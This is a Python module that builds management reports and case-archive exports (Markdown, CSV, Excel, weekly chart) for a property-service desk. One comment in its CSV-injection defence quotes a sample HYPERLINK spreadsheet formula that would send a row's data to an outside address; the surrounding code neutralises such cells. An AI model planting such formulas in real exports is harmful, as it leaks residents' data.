"""Management reports: the statistics of a period as Markdown, CSV or an Excel workbook,
the archive export of cases, and the weekly summary with its chart.

The figures come from `cases.statistics` (pure) over what `storage.report_queries`
pulls; this module only assembles and writes.  Every view is its own function over
a shared `ReportContext`, which fetches each kind of record once, so the whole
report costs one pass of queries and a single view can be timed on its own
(bench/reports.py).  Owners' names and phones never reach this module unmasked.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import threading
from collections import Counter
from collections.abc import Awaitable, Callable, Hashable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from functools import lru_cache
from typing import Any
from zoneinfo import ZoneInfo

from sqlalchemy.ext.asyncio import AsyncSession

from cases import statistics as st
from cases.codes import Kind
from cases.dispatch_stats import acceptances, figures as dispatch_figures
from cases.errors import NotFound
from cases.records import Community
from handlers.kit.formatting import code_name, duration, local_time
from handlers.kit.i18n import t
from services.reports.archive import constant_offset, write_archive
from services.reports.xlsx import StreamingWorkbook
from storage import report_queries as q
from storage.uow import UnitOfWork



def zh_name(group: str, code: str) -> str:
    """The Chinese display name of a taxonomy code from the catalogue, shown next to the code
    in the bilingual tables ("" for a code without one, such as the "-" of no category)."""
    name = code_name("zh-CN", group, code)
    return "" if name in (code, "-") else name


LEGEND = (
    "Percentiles: linear interpolation between closest ranks (statistics.quantiles method='inclusive', "
    "Excel PERCENTILE.INC); median = P50.",
    "First response = opened → first accepted; completion = opened → done (last finish after rework).",
    "Overdue (judged at the period end, or now if earlier; cancelled cases excluded): the response deadline "
    "passed without acceptance by it, or the completion deadline passed without the work done by it.",
    "Reopen rate = cases reworked at least once ÷ cases finished at least once.",
    "Callback coverage = cases closed in the period whose callback was answered (chat or phone record) "
    "after that closing ÷ cases closed in the period; policy 100% complaints, 100% services, "
    "repairs at the desk's rate (never below 90%).",
    "Satisfaction = callbacks answered in the period (scores 1–5); staff are credited with the callbacks "
    "of cases now assigned to them.",
)


# --------------------------------------------------------------------------- tables
@dataclass(frozen=True)
class Column:
    title: str
    fmt: str = "text"  # text | int | min | hours | pct | score | time | cell (value is (raw, fmt))


@dataclass
class Table:
    """One view of the report: a sheet in the workbook, a section in Markdown and CSV."""

    name: str  # sheet name
    title: str
    columns: list[Column]
    rows: list[list[Any]]
    # Markdown shows at most this many rows (a long list belongs in the workbook).
    md_limit: int | None = None


@dataclass
class Report:
    title: str
    meta: list[tuple[str, str]]
    tables: list[Table]
    legend: tuple[str, ...] = LEGEND
    # A chart (PNG) the workbook shows on a sheet of its own (the company report's).
    chart: bytes | None = None


def _cell(value: Any, fmt: str) -> tuple[Any, str]:
    return value if fmt == "cell" and isinstance(value, tuple) else (value, fmt)


def fmt_text(value: Any, fmt: str) -> str:
    """How a value reads in Markdown and CSV."""
    value, fmt = _cell(value, fmt)
    if value is None:
        return "—"
    if fmt == "pct":
        return f"{value * 100:.1f}%"
    if fmt in ("min", "hours"):
        return f"{value:.1f}"
    if fmt == "score":
        return f"{value:.2f}"
    if fmt == "time":
        return value.strftime("%Y-%m-%d %H:%M")
    return str(value)


# --------------------------------------------------------------------------- spreadsheet safety
# A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV
# injection"): an owner's description `=HYPERLINK("http://…?"&J2&K2,"…")` would send the
# row's data away when clicked.  Every text cell of every export and report passes here.
FORMULA_START = frozenset("=+-@\t\r")
# A signed number ("-4", "+12.5%") is data, not a formula: left as it is.
_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)*%?")


def _runs(value: str) -> bool:
    return value[:1] in FORMULA_START and _NUMBER.fullmatch(value) is None


def _printable(value: str) -> str:
    """Text a file can hold: lone surrogates (which no encoder writes) replaced."""
    if value.isascii():
        return value
    try:
        value.encode("utf-8")
    except UnicodeEncodeError:
        value = value.encode("utf-8", "replace").decode("utf-8")
    return value


def csv_cell(value: Any) -> Any:
    """A CSV cell that no spreadsheet runs: formula-like text gets a leading apostrophe."""
    if isinstance(value, str):
        value = _printable(value)
        if _runs(value):
            return "'" + value
    return value


def xlsx_cells(ws: Any, values: Sequence[Any]) -> list[Any]:
    """A worksheet row that Excel cannot run: formula-like text is stored as a string cell
    (with Excel's quote prefix), control characters XML cannot hold are dropped."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    out = list(values)
    for i, value in enumerate(out):
        if not isinstance(value, str):
            continue
        value = _printable(value)
        if not value.isprintable():
            value = ILLEGAL_CHARACTERS_RE.sub("", value)
        if _runs(value):
            cell = WriteOnlyCell(ws, value=value)
            cell.data_type = "s"
            cell.quotePrefix = True
            value = cell
        out[i] = value
    return out


# --------------------------------------------------------------------------- context
@dataclass
class ReportContext:
    """One community and period; fetches each kind of record at most once."""

    session: AsyncSession
    community: Community
    start: datetime
    end: datetime
    as_of: datetime
    _cache: dict[str, Any] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.zone = ZoneInfo(self.community.policy.timezone)

    @property
    def as_of_s(self) -> int:
        return int(self.as_of.timestamp())

    def local(self, t: int | datetime | None) -> datetime | None:
        if t is None:
            return None
        if isinstance(t, datetime):
            return t.astimezone(self.zone).replace(tzinfo=None)
        return datetime.fromtimestamp(t, self.zone).replace(tzinfo=None)

    async def _once(self, key: str, fetch: Callable[[], Awaitable[Any]]) -> Any:
        if key not in self._cache:
            self._cache[key] = await fetch()
        return self._cache[key]

    async def cases(self) -> list[st.CaseFacts]:
        return await self._once("cases", lambda: q.case_facts(self.session, self.community.id, self.start, self.end))

    async def answers(self) -> list[st.AnswerSums]:
        return await self._once("answers", lambda: q.answer_sums(self.session, self.community.id, self.start, self.end))

    async def late(self) -> dict[int, st.Lateness]:
        """Every case's lateness at the period end, worked out once for all views."""
        async def compute() -> dict[int, st.Lateness]:
            return st.lateness_of(await self.cases(), self.as_of_s)

        return await self._once("late", compute)

    async def coverage(self) -> list[st.Coverage]:
        async def fetch() -> list[st.Coverage]:
            counts = await q.coverage_counts(self.session, self.community.id, self.start, self.end)
            return st.coverage(counts, self.community.policy)

        return await self._once("coverage", fetch)

    async def acceptances(self) -> dict[int, int]:
        return await self._once("accepted", lambda: q.acceptances(self.session, self.community.id, self.start, self.end))

    async def staff(self) -> dict[int, q.StaffRow]:
        return await self._once("staff", lambda: q.staff(self.session, self.community.id))

    async def teams(self) -> dict[str, str]:
        return await self._once("teams", lambda: q.teams(self.session, self.community.id))

    async def backlog(self) -> st.Backlog:
        """Cases still open past their deadline at `as_of`, whenever they were opened."""
        async def compute() -> st.Backlog:
            candidates = await q.backlog_facts(self.session, self.community.id, self.as_of)
            return st.backlog(candidates, self.as_of_s, int(self.start.timestamp()))

        return await self._once("backlog", compute)

    async def overall(self) -> st.CaseFigures:
        async def compute() -> st.CaseFigures:
            return st.case_figures(await self.cases(), self.as_of_s, await self.answers(), await self.late())

        return await self._once("overall", compute)


async def open_context(session: AsyncSession, community_code: str | None, start: date, end: date,
                       now: datetime) -> ReportContext:
    """The context for [start, end) in local dates of the community's zone."""
    community = await q.community(session, community_code)
    if community is None:
        raise NotFound(f"no community {community_code!r}" if community_code else "no community loaded")
    lo, hi = st.local_bounds(start, end, community.policy.timezone)
    return ReportContext(session, community, lo, hi, min(hi, now))


# --------------------------------------------------------------------------- views
GROUP_COLUMNS = [
    Column("案件数 Cases", "int"), Column("处理中 Active", "int"), Column("已取消 Cancelled", "int"),
    Column("已完成 Finished", "int"), Column("首响中位 FR median (min)", "min"), Column("首响P90 FR P90 (min)", "min"),
    Column("完成中位 Done median (h)", "hours"), Column("完成P90 Done P90 (h)", "hours"),
    Column("超时 Overdue", "int"), Column("超时率 Overdue rate", "pct"), Column("返工率 Reopen rate", "pct"),
    Column("回访 Answered", "int"), Column("速度 Speed", "score"), Column("态度 Attitude", "score"),
    Column("解决率 Solved", "pct"),
]


def _hours(minutes: float | None) -> float | None:
    return None if minutes is None else minutes / 60


def _group_row(f: st.CaseFigures) -> list[Any]:
    s = f.satisfaction
    return [
        f.cases, f.active, f.cancelled, f.finished, f.first_response.median, f.first_response.p90,
        _hours(f.completion.median), _hours(f.completion.p90), f.overdue, f.overdue_rate, f.reopen_rate,
        s.answered, s.mean_speed, s.mean_attitude, s.solved_rate,
    ]


async def _grouped(ctx: ReportContext, name: str, title: str, first: list[Column],
                   key: Callable[[Any], Hashable], label: Callable[[Hashable], list[Any]]) -> Table:
    groups = st.figures_by(await ctx.cases(), key, ctx.as_of_s, await ctx.answers(), key, await ctx.late())
    rows = [label(k) + _group_row(f) for k, f in groups.items()]
    return Table(name, title, first + GROUP_COLUMNS, rows)


async def view_by_kind(ctx: ReportContext) -> Table:
    return await _grouped(ctx, "By kind", "按类型 By kind", [Column("类型 Kind")],
                          lambda r: r.kind, lambda k: [f"{k} {zh_name('kind', str(k))}".strip()])


async def view_by_category(ctx: ReportContext) -> Table:
    return await _grouped(
        ctx, "By category", "按类别 By category", [Column("类型 Kind"), Column("类别 Category")],
        lambda r: (r.kind, r.category or "-"),
        lambda k: [k[0], f"{k[1]} {zh_name('category', k[1])}".strip()],  # type: ignore[index]
    )


async def view_by_urgency(ctx: ReportContext) -> Table:
    return await _grouped(ctx, "By urgency", "按紧急程度 By urgency", [Column("紧急程度 Urgency")],
                          lambda r: r.urgency, lambda k: [f"{k} {zh_name('urgency', str(k))}".strip()])


async def view_by_team(ctx: ReportContext) -> Table:
    names = await ctx.teams()
    return await _grouped(ctx, "By team", "按班组 By team", [Column("班组 Team")],
                          lambda r: r.team or "-", lambda k: [f"{k} {names.get(str(k), '')}".strip()])


async def view_staff(ctx: ReportContext) -> Table:
    people = await ctx.staff()
    figures = st.staff_figures(await ctx.cases(), await ctx.acceptances(), await ctx.answers(), ctx.as_of_s,
                               await ctx.late())
    rows = []
    # Active staff always appear (a zero is an assessment figure too); departed ones only with activity.
    for sid in [s for s in people if people[s].active or s in figures] + [s for s in figures if s not in people]:
        person = people.get(sid)
        f = figures.get(sid) or st.StaffFigures(sid, 0, 0, 0, 0, 0, 0, st.satisfaction([]))
        s = f.satisfaction
        rows.append([
            person.code if person else str(sid), person.name if person else "", person.team if person else "",
            person.role if person else "", f.accepted, f.first_responder, f.assigned, f.finished,
            f.on_time_rate, f.late_open, s.answered, s.mean_speed, s.mean_attitude, s.solved_rate,
        ])
    columns = [
        Column("工号 Code"), Column("姓名 Name"), Column("班组 Team"), Column("岗位 Role"),
        Column("接单 Accepted", "int"), Column("首问 First responder", "int"), Column("名下 Assigned", "int"),
        Column("完成 Finished", "int"), Column("按时率 On time", "pct"), Column("超时未完 Late open", "int"),
        Column("回访 Answered", "int"), Column("速度 Speed", "score"), Column("态度 Attitude", "score"),
        Column("解决率 Solved", "pct"),
    ]
    return Table("Staff", "员工考核 Staff", columns, rows)


def coverage_status(c: st.Coverage) -> str:
    if c.closed == 0:
        return "—"
    return "低于标准 BELOW POLICY" if c.below_policy else "达标 OK"


async def view_callbacks(ctx: ReportContext) -> Table:
    rows = [
        [f"{c.kind} {zh_name('kind', c.kind)}", c.closed, c.covered, c.by_phone, c.pending, c.missed,
         c.rate, c.target, coverage_status(c)]
        for c in await ctx.coverage()
    ]
    columns = [
        Column("类型 Kind"), Column("已关闭 Closed", "int"), Column("已回访 Covered", "int"),
        Column("其中电话 By phone", "int"), Column("进行中 Pending", "int"), Column("未回访 Missed", "int"),
        Column("覆盖率 Coverage", "pct"), Column("标准 Target", "pct"), Column("结论 Status"),
    ]
    return Table("Callbacks", "回访覆盖 Callback coverage", columns, rows)


async def view_overdue(ctx: ReportContext) -> Table:
    people, teams = await ctx.staff(), await ctx.teams()
    late_of = await ctx.late()
    late = sorted(((c, late_of[c.id]) for c in await ctx.cases() if late_of[c.id].overdue),
                  key=lambda p: (-p[1].worst, p[0].id))
    rows = []
    for c, lt in late:
        what = " + ".join(w for w, v in (("响应 response", lt.response), ("完成 completion", lt.completion)) if v is not None)
        rows.append([
            c.id, c.kind, c.category or "-", c.urgency, f"{c.team} {teams.get(c.team, '')}".strip(),
            people[c.assignee_id].name if c.assignee_id in people else "", c.status, ctx.local(c.created), what,
            ctx.local(c.response_due), ctx.local(c.accepted), ctx.local(c.completion_due), ctx.local(c.done),
            lt.worst / 3600,
        ])
    columns = [
        Column("案件 Case", "int"), Column("类型 Kind"), Column("类别 Category"), Column("紧急 Urgency"),
        Column("班组 Team"), Column("处理人 Assignee"), Column("状态 Status"), Column("受理 Opened", "time"),
        Column("超时项 Late"), Column("响应时限 Response due", "time"), Column("接单 Accepted", "time"),
        Column("完成时限 Completion due", "time"), Column("完成 Done", "time"), Column("超时 Late by (h)", "hours"),
    ]
    return Table("Overdue", "超时案件 Overdue cases", columns, rows, md_limit=50)


async def view_summary(ctx: ReportContext) -> Table:
    f = await ctx.overall()
    backlog = await ctx.backlog()
    s = f.satisfaction
    fr, done = f.first_response, f.completion
    rows: list[list[Any]] = [
        ["小区 Community", (f"{ctx.community.name} ({ctx.community.code})", "text")],
        ["期间 Period", (f"{ctx.local(ctx.start):%Y-%m-%d} – {ctx.local(ctx.end - timedelta(seconds=1)):%Y-%m-%d}", "text")],
        ["时区 Time zone", (ctx.community.policy.timezone, "text")],
        ["统计截至 As of", (ctx.local(ctx.as_of), "time")],
        ["新增案件 Cases opened", (f.cases, "int")],
        ["处理中 Active", (f.active, "int")],
        ["已完成 Finished", (f.finished, "int")],
        ["已关闭 Closed", (f.closed, "int")],
        ["已取消 Cancelled", (f.cancelled, "int")],
        ["首次响应中位 First response median (min)", (fr.median, "min")],
        ["首次响应P90 First response P90 (min)", (fr.p90, "min")],
        ["完成用时中位 Completion median (h)", (_hours(done.median), "hours")],
        ["完成用时P90 Completion P90 (h)", (_hours(done.p90), "hours")],
        ["超时案件 Overdue cases", (f.overdue, "int")],
        ["超时率 Overdue rate", (f.overdue_rate, "pct")],
        ["响应超时 Late response", (f.late_response, "int")],
        ["完成超时 Late completion", (f.late_completion, "int")],
        ["逾期积压 Overdue backlog (still open past deadline, any opening date)", (backlog.cases, "int")],
        ["  其中本期前登记 of them opened before the period", (backlog.opened_before, "int")],
        ["返工率 Reopen rate", (f.reopen_rate, "pct")],
    ]
    for c in await ctx.coverage():
        rows.append([f"回访覆盖 Callback coverage: {c.kind} {zh_name('kind', c.kind)}", (c.rate, "pct")])
        rows.append([f"  标准 Target {c.kind}", (f"{c.target * 100:.0f}% — {coverage_status(c)}", "text")])
    rows += [
        ["回访答复 Callbacks answered", (s.answered, "int")],
        ["平均速度 Mean speed (1–5)", (s.mean_speed, "score")],
        ["平均态度 Mean attitude (1–5)", (s.mean_attitude, "score")],
        ["解决率 Solved rate", (s.solved_rate, "pct")],
    ]
    return Table("Summary", "概览 Summary", [Column("指标 Metric"), Column("值 Value", "cell")], rows)


async def view_dispatch(ctx: ReportContext) -> Table:
    """Issue 20: per person the open load now, acceptances assigned vs grabbed and chases on
    their cases in the period; then the desk's totals (assigned share, lapsed offers, chases, pauses)."""
    people = await ctx.staff()
    timelines = await q.dispatch_timelines(ctx.session, ctx.community.id, ctx.start, ctx.end)
    load = await q.open_load(ctx.session, ctx.community.id)
    per_person: dict[int, list[int]] = {}
    for entries in timelines:
        for sid, how in acceptances(entries):
            per_person.setdefault(sid, [0, 0])[0 if how == "assigned" else 1] += 1
    total = dispatch_figures(timelines)
    rows: list[list[Any]] = []
    for sid in [s for s in people if people[s].active or s in per_person or s in load]:
        person = people[sid]
        assigned, grabbed = per_person.get(sid, [0, 0])
        rows.append([person.code, person.name, person.team, load.get(sid, 0), (assigned, "int"), grabbed,
                     total.chases_by_staff.get(sid, 0)])
    rows.append(["", "合计 Total", "", sum(load.values()), (total.assigned, "int"), total.grabbed, total.chases])
    rows.append(["", "指派占比 Assigned share", "", None, (total.assigned_share, "pct"), None, None])
    rows.append(["", "转回群 Offers lapsed", "", None, (total.lapsed, "int"), None, None])
    rows.append(["", "催办工单 Cases chased", "", None, (total.chased_cases, "int"), None, None])
    rows.append(["", "挂起 Pauses", "", None, (total.pauses, "int"), None, None])
    columns = [
        Column("工号 Code"), Column("姓名 Name"), Column("班组 Team"), Column("当前负荷 Open load", "int"),
        Column("指派接单 Assigned", "cell"), Column("抢单 Grabbed", "int"), Column("被催办 Chases", "int"),
    ]
    return Table("Dispatch", "派单 Dispatch", columns, rows)


VIEWS: dict[str, Callable[[ReportContext], Awaitable[Table]]] = {
    "Summary": view_summary,
    "By kind": view_by_kind,
    "By category": view_by_category,
    "By urgency": view_by_urgency,
    "By team": view_by_team,
    "Staff": view_staff,
    "Callbacks": view_callbacks,
    "Overdue": view_overdue,
    "Dispatch": view_dispatch,
}


async def assemble(ctx: ReportContext, views: Sequence[str] = tuple(VIEWS)) -> Report:
    tables = [await VIEWS[name](ctx) for name in views]
    title = f"物业服务统计 Service statistics — {ctx.community.name}"
    meta = [
        ("Period", f"{ctx.local(ctx.start):%Y-%m-%d} to {ctx.local(ctx.end):%Y-%m-%d} (end exclusive), "
                   f"{ctx.community.policy.timezone}"),
        ("As of", f"{ctx.local(ctx.as_of):%Y-%m-%d %H:%M}"),
    ]
    return Report(title, meta, tables)


async def build_report(uow: UnitOfWork, start: date, end: date, community: str | None = None, *,
                       now: datetime) -> Report:
    """The full report of [start, end) as of `now`, read in `uow` (a unit of work not yet entered)."""
    async with uow:
        await uow.read_only()
        ctx = await open_context(uow.session, community, start, end, now)
        return await assemble(ctx)


# --------------------------------------------------------------------------- writers
def _md_escape(text: str) -> str:
    return text.replace("|", "\\|").replace("\n", " ")


def to_markdown(report: Report) -> str:
    out = [f"# {report.title}", ""]
    out += [f"- {k}: {v}" for k, v in report.meta] + [""]
    for t in report.tables:
        out += [f"## {t.title}", ""]
        if not t.rows:
            out += ["(none)", ""]
            continue
        shown = t.rows if t.md_limit is None else t.rows[: t.md_limit]
        out.append("| " + " | ".join(c.title for c in t.columns) + " |")
        out.append("|" + "|".join("---" if c.fmt in ("text", "time") else "---:" for c in t.columns) + "|")
        for row in shown:
            out.append("| " + " | ".join(_md_escape(fmt_text(v, c.fmt)) for v, c in zip(row, t.columns)) + " |")
        if len(shown) < len(t.rows):
            out.append(f"\n… {len(t.rows) - len(shown)} more in the CSV or Excel export.")
        out.append("")
    out += ["## 口径 Definitions", ""] + [f"- {line}" for line in report.legend]
    return "\n".join(out) + "\n"


def to_csv(report: Report) -> str:
    """All views in one CSV: each starts with a row holding its title, then a header row,
    and ends with an empty row (how spreadsheet users expect a multi-part export)."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")

    def put(row: Sequence[Any]) -> None:
        w.writerow([csv_cell(v) for v in row])

    put([report.title])
    for k, v in report.meta:
        put([k, v])
    put([])
    for t in report.tables:
        put([t.title])
        put([c.title for c in t.columns])
        for row in t.rows:
            put([fmt_text(v, c.fmt) for v, c in zip(row, t.columns)])
        put([])
    return buf.getvalue()


_XLSX_FORMATS = {"pct": "0.0%", "min": "0.0", "hours": "0.0", "score": "0.00", "time": "yyyy-mm-dd hh:mm", "int": "0"}


def to_xlsx(report: Report) -> bytes:
    """One sheet per view; numbers stay numbers (rates as fractions shown as %).

    The workbook is written in streaming (write-only) mode: a long overdue list is
    thousands of rows, and openpyxl's ordinary mode slows down quadratically there.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    wb = Workbook(write_only=True)
    bold = Font(bold=True)
    for t in report.tables:
        ws = wb.create_sheet(t.name[:31])
        for i, c in enumerate(t.columns, start=1):
            ws.column_dimensions[get_column_letter(i)].width = max(10, min(40, len(c.title) + 2))
        ws.freeze_panes = "A2"
        header = []
        for c in t.columns:
            cell = WriteOnlyCell(ws, value=_printable(c.title))
            if _runs(cell.value):
                cell.data_type, cell.quotePrefix = "s", True
            cell.font = bold
            header.append(cell)
        ws.append(header)
        for row in t.rows:
            out: list[Any] = []
            for v, c in zip(row, t.columns):
                value, fmt = _cell(v, c.fmt)
                if fmt in _XLSX_FORMATS and value is not None and not isinstance(value, str):
                    cell = WriteOnlyCell(ws, value=value)
                    cell.number_format = _XLSX_FORMATS[fmt]
                    out.append(cell)
                else:
                    out.append(value)
            ws.append(xlsx_cells(ws, out))
    if report.chart is not None:
        from openpyxl.drawing.image import Image

        ws = wb.create_sheet("Chart")
        ws.add_image(Image(io.BytesIO(report.chart)), "A1")
    info = wb.create_sheet("Definitions")
    info.append(xlsx_cells(info, [report.title]))
    for k, v in report.meta:
        info.append(xlsx_cells(info, [k, v]))
    for line in report.legend:
        info.append(xlsx_cells(info, [line]))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def write_report(report: Report, fmt: str) -> bytes:
    """The report in `fmt` (md | csv | xlsx) as bytes ready for a file."""
    if fmt == "md":
        return to_markdown(report).encode()
    if fmt == "csv":
        # The BOM makes Excel read the Chinese headers as UTF-8.
        return to_csv(report).encode("utf-8-sig")
    if fmt == "xlsx":
        return to_xlsx(report)
    raise ValueError(f"unknown report format {fmt!r}")


# --------------------------------------------------------------------------- case export
CASE_COLUMNS = [
    "case", "kind", "category", "area", "urgency", "status", "room", "place", "owner", "owner_phone",
    "description", "team", "assignee", "first_responder", "fee_cny", "rework_round", "escalation_level",
    "confirmed_by", "opened", "first_accepted", "accepted", "started", "done", "closed", "response_due",
    "completion_due",
]
TIMELINE_COLUMNS = ["case", "at", "action", "actor", "note"]


def _case_row(c: q.ExportCase, local: Callable[[datetime | None], datetime | None]) -> list[Any]:
    t = c.times
    return [
        c.id, c.kind, c.category, c.area, c.urgency, c.status, c.room, c.place, c.owner, c.owner_phone,
        c.description, c.team, c.assignee, c.first_responder, c.fee_cents / 100, c.rework_round,
        c.escalation_level, c.confirmed_by, local(t["created_at"]), local(t["first_accepted_at"]),
        local(t["accepted_at"]), local(t["started_at"]), local(t["done_at"]), local(t["closed_at"]),
        local(t["response_due_at"]), local(t["completion_due_at"]),
    ]


def _wall_clock(zone: ZoneInfo) -> Callable[[datetime | None], datetime | None]:
    """`ReportContext.local` for a million timestamps: the zone's offset is looked up once per
    quarter hour of UTC (zones change offset on a quarter hour at most), not per timestamp."""
    offsets: dict[int, timedelta] = {}

    def local(t: datetime | None) -> datetime | None:
        if t is None:
            return None
        quarter = int(t.timestamp()) // 900
        offset = offsets.get(quarter)
        if offset is None:
            offset = offsets[quarter] = t.astimezone(zone).utcoffset() or timedelta(0)
        return (t + offset).replace(tzinfo=None)

    return local


async def export_cases(uow: UnitOfWork, start: date, end: date, fmt: str, community: str | None = None, *,
                       now: datetime) -> bytes:
    """Cases opened in [start, end) with their timelines, for the archive (csv | xlsx).

    Owner names and phones are masked (storage.report_queries masks them before they
    get here); staff names are shown, as they are in the office's own records.
    """
    async with uow:
        await uow.read_only()
        ctx = await open_context(uow.session, community, start, end, now)
        # A zone with one offset over the period (China's): rows straight to sheet XML, the
        # database doing the time arithmetic (services.reports.archive).
        if fmt == "xlsx" and (offset := constant_offset(ctx.zone, ctx.start, ctx.end)) is not None:
            return await write_archive(uow.session, ctx.community.id, ctx.start, ctx.end, offset,
                                       CASE_COLUMNS, TIMELINE_COLUMNS)
        cases = await q.export_cases(uow.session, ctx.community.id, ctx.start, ctx.end)
    local = _wall_clock(ctx.zone)

    def stamp(t: datetime | None) -> str:
        return t.strftime("%Y-%m-%d %H:%M") if t else ""

    if fmt == "csv":
        buf = io.StringIO()
        w = csv.writer(buf, lineterminator="\n")
        w.writerow(CASE_COLUMNS + ["timeline"])
        for c in cases:
            row = [stamp(v) if isinstance(v, datetime) else ("" if v is None else v) for v in _case_row(c, local)]
            history = "\n".join(
                f"{stamp(local(e.at))} {e.action} ({e.actor}){': ' + e.note if e.note else ''}" for e in c.timeline
            )
            w.writerow([csv_cell(v) for v in row] + [csv_cell(history)])
        return buf.getvalue().encode("utf-8-sig")
    if fmt == "xlsx":
        # Streamed straight to XML and deflated alongside (services/reports/xlsx.py): a month of 100k
        # cases is five million cells; text cells are never formulas there.
        buf = io.BytesIO()
        book = StreamingWorkbook(buf)
        sheet = book.sheet("Cases")
        sheet.append_header(CASE_COLUMNS)
        sheet.extend(_case_row(c, local) for c in cases)
        events = book.sheet("Timeline")
        events.append_header(TIMELINE_COLUMNS)
        events.extend([c.id, local(e.at), e.action, e.actor, e.note] for c in cases for e in c.timeline)
        book.close()
        return buf.getvalue()
    raise ValueError(f"unknown export format {fmt!r} (csv or xlsx)")


# --------------------------------------------------------------------------- weekly report
WEEKS = 8


@dataclass(frozen=True)
class WeekFigures:
    start: date
    opened: Counter[str]
    satisfaction: st.Satisfaction


async def weekly_figures(session: AsyncSession, community: Community, now: datetime, weeks: int = WEEKS) -> list[WeekFigures]:
    """Volumes by kind and satisfaction for each of the last `weeks` complete weeks (Monday–Sunday, local)."""
    edges_dt = st.week_starts(now, community.policy.timezone, weeks)
    edges = [int(e.timestamp()) for e in edges_dt]
    opened: list[Counter[str]] = [Counter() for _ in range(weeks)]
    for created, kind in await q.created_times(session, community.id, edges_dt[0], edges_dt[-1]):
        i = st.week_of(created, edges)
        if i is not None:
            opened[i][kind] += 1
    answered: list[list[st.AnswerFacts]] = [[] for _ in range(weeks)]
    for a in await q.answers(session, community.id, edges_dt[0], edges_dt[-1]):
        i = st.week_of(a.answered, edges)
        if i is not None:
            answered[i].append(a)
    return [WeekFigures(edges_dt[i].date(), opened[i], st.satisfaction(answered[i])) for i in range(weeks)]


def _pct(value: float | None) -> str:
    return "—" if value is None else f"{value * 100:.1f}%"


def _num(value: float | None, digits: int = 0) -> str:
    return "—" if value is None else f"{value:.{digits}f}"


def _coarse_minutes(seconds: int) -> float:
    """Lateness as a person says it: minutes within a day or two, whole days beyond."""
    minutes = seconds / 60
    return minutes if minutes < 2 * 24 * 60 else (minutes // (24 * 60)) * 24 * 60


def summary_text(locale: str, community: Community, start: date, end: date, as_of: datetime,
                 opened: Counter[str], prior: int, f: st.CaseFigures, coverage: list[st.Coverage], *,
                 weekly: bool = False, backlog: st.Backlog | None = None) -> str:
    """The short summary a manager reads in chat for [start, end) (the chart carries the trend).

    `prior` is the number of cases opened in the same weekdays one or more weeks before;
    `as_of` earlier than the period's end (this week so far) is said in the title.
    """
    def say(key: str, **fields: object) -> str:
        return t(locale, f"reports.{key}", **fields)

    title = say("title_week" if weekly else "title_period", community=community.name,
                start=f"{start:%Y-%m-%d}", end=f"{end - timedelta(days=1):%Y-%m-%d}")
    zone = ZoneInfo(community.policy.timezone)
    if as_of < datetime.combine(end, datetime.min.time(), zone):
        title += say("as_of", time=local_time(as_of, community.policy, locale))
    kinds = say("list_sep").join(say("kind_count", kind=code_name(locale, "kind", k), n=n)
                                 for k, n in opened.most_common())
    s = f.satisfaction
    lines = [
        title,
        say("opened", n=sum(opened.values()), before=say("before_week" if weekly else "before_period"), prior=prior,
            kinds=say("kinds", list=kinds) if kinds else ""),
        say("times", fr_median=_num(f.first_response.median), fr_p90=_num(f.first_response.p90),
            done_median=_num(_hours(f.completion.median), 1), done_p90=_num(_hours(f.completion.p90), 1)),
        say("overdue", n=f.overdue, rate=_pct(f.overdue_rate), reopen=_pct(f.reopen_rate)),
    ]
    if backlog is not None:
        # The period's figures count the cases opened in it; the backlog counts every case
        # still open past its deadline, however old — the work most in need of a push.
        teams = say("backlog_sep").join(say("backlog_team", team=code_name(locale, "team", team), n=n)
                                        for team, n in backlog.by_team)
        earlier = say("backlog_earlier", n=backlog.opened_before) if backlog.opened_before else ""
        lines.append(say("backlog", n=backlog.cases, earlier=earlier, teams=teams,
                         worst=duration(_coarse_minutes(backlog.worst_seconds), locale))
                     if backlog.cases else say("backlog_none"))
    parts = []
    for c in coverage:
        if c.closed == 0:
            continue
        # Callbacks still under way are named, so a manager can tell "not yet" from "missed".
        parts.append(say("coverage_part", kind=code_name(locale, "kind", c.kind), rate=_pct(c.rate),
                         covered=c.covered, closed=c.closed,
                         pending=say("coverage_pending", n=c.pending) if c.pending else "",
                         flag=say("coverage_below", target=f"{c.target * 100:.0f}") if c.below_policy else ""))
    lines.append(say("coverage", parts=say("coverage_sep").join(parts)) if parts else say("coverage_none"))
    if s.answered:
        lines.append(say("satisfaction", n=s.answered, speed=_num(s.mean_speed, 2), attitude=_num(s.mean_attitude, 2),
                         solved=_pct(s.solved_rate)))
    else:
        lines.append(say("satisfaction_none"))
    return "\n".join(lines)


# Fonts that carry Chinese, in order of preference, and name fragments that mark other
# CJK families; only these candidates are opened, so finding none stays cheap.
_CJK_FONTS = ("Noto Sans CJK SC", "Source Han Sans SC", "WenQuanYi Micro Hei", "WenQuanYi Zen Hei",
              "Microsoft YaHei", "SimHei", "PingFang SC", "Hiragino Sans GB", "AR PL UMing CN")
_CJK_HINTS = ("CJK", "Han Sans", "Han Serif", "WenQuanYi", "Hei", "Song", "Ming", "Kai", "Fallback", " SC", " CN")


@lru_cache(maxsize=1)
def cjk_font() -> str | None:
    """An installed font that can draw Chinese, or None (then the chart is labelled in English)."""
    from matplotlib import font_manager
    from matplotlib.ft2font import FT2Font

    fonts = font_manager.fontManager.ttflist
    for name in _CJK_FONTS:
        if any(f.name == name for f in fonts):
            return name
    for f in fonts:
        if not any(hint in f.name for hint in _CJK_HINTS):
            continue
        try:
            charmap = FT2Font(f.fname).get_charmap()
        except Exception:  # an unreadable font file is simply not a candidate
            continue
        if all(ord(ch) in charmap for ch in "周报案件"):
            return f.name
    return None


# matplotlib's rc settings are process-wide: one chart at a time, whichever thread draws it.
CHART_LOCK = threading.Lock()


def render_chart(community: Community, weeks: Sequence[WeekFigures], locale: str = "zh-CN") -> bytes:
    """Cases opened per week (stacked by kind) over satisfaction per week, as a PNG.

    Labelled in Chinese for a Chinese reader when a font can draw it, else in English."""
    with CHART_LOCK:
        return _render_chart(community, weeks, locale)


